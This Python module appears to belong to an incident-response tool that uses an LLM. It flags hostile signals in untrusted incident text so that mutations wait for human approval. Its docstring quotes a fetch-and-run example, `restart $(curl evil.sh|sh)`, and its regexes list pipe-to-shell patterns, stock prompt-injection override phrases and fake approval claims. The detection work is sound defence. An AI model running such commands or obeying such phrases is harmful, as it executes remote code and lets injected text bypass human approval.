"""Signs that the incident text is hostile: shell syntax, look-alike letters, hidden characters, injection phrases.

The incident text is untrusted, like the LLM's output. Names are validated exactly
(RFC 1123) when an action is proposed, but an extractor can still pull a valid-looking
name out of hostile text (``restart $(curl evil.sh|sh)`` -> ``evil.sh``). So when the
text itself carries one of these signals, no mutation runs on its own: the trust engine
asks for approval (``approvals.suspicious_input``) and says which signal it saw.
Work is linear in the text length; pure non-Latin text (Chinese, Russian) is not flagged.
"""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Iterable

_SHELL = (("$(", "command substitution '$('"), ("${", "variable expansion '${'"), ("`", "a backtick"),
          ("&&", "'&&'"), ("||", "'||'"))
_PIPE_TO_SHELL = re.compile(r"\|\s*(?:ba|z|da)?sh\b|;\s*kubectl\b|;\s*rm\s", re.IGNORECASE)
_HIDDEN = frozenset(
    [chr(c) for c in range(0x200B, 0x2010)] + [chr(c) for c in range(0x202A, 0x202F)]
    + [chr(c) for c in range(0x2060, 0x2065)] + [chr(c) for c in range(0x2066, 0x206A)] + ["\ufeff"]
)
_INJECTION = re.compile(
    r"ignore (?:all |any )?(?:the )?(?:previous|prior|above) (?:instructions|rules|prompts?)"
    r"|disregard (?:all |any )?(?:the )?(?:previous|prior|above|your)"
    r"|you are now\b|system prompt|developer mode"
    r"|\bapproved by\b|\bpre-?approved\b|no approvals? (?:is )?(?:needed|required)|skip (?:the )?approvals?"
    r"|bypass (?:the )?(?:approval|policy|trust)",
    re.IGNORECASE,
)
_WORD = re.compile(r"[^\W\d_][\w.-]*", re.UNICODE)
_CONFUSABLE_SCRIPTS = ("CYRILLIC", "GREEK", "ARMENIAN", "CHEROKEE")


def suspicious_signals(texts: Iterable[str]) -> tuple[str, ...]:
    """The distinct signals found in ``texts`` (title, description, label and annotation values)."""
    found: list[str] = []

    def add(signal: str) -> None:
        if signal not in found:
            found.append(signal)

    for text in texts:
        if not text:
            continue
        for token, label in _SHELL:
            if token in text:
                add(f"shell syntax: {label}")
        if _PIPE_TO_SHELL.search(text):
            add("shell syntax: a chained or piped command")
        if any(c in _HIDDEN for c in text):
            add("hidden characters (zero-width or bidirectional controls)")
        match = _INJECTION.search(text)
        if match:
            add(f"instruction or approval claim in the text: {match.group(0)!r}")
        if not text.isascii():
            for word in _WORD.findall(text):
                if _mixed_script(word):
                    add(f"look-alike letters: {word[:40]!r} mixes Latin with another script")
                    break
    return tuple(found)


def _mixed_script(word: str) -> bool:
    latin = other = False
    for c in word:
        if c.isascii():
            latin = latin or c.isalpha()
        elif c.isalpha():
            other = other or unicodedata.name(c, "").startswith(_CONFUSABLE_SCRIPTS)
        if latin and other:
            return True
    return False
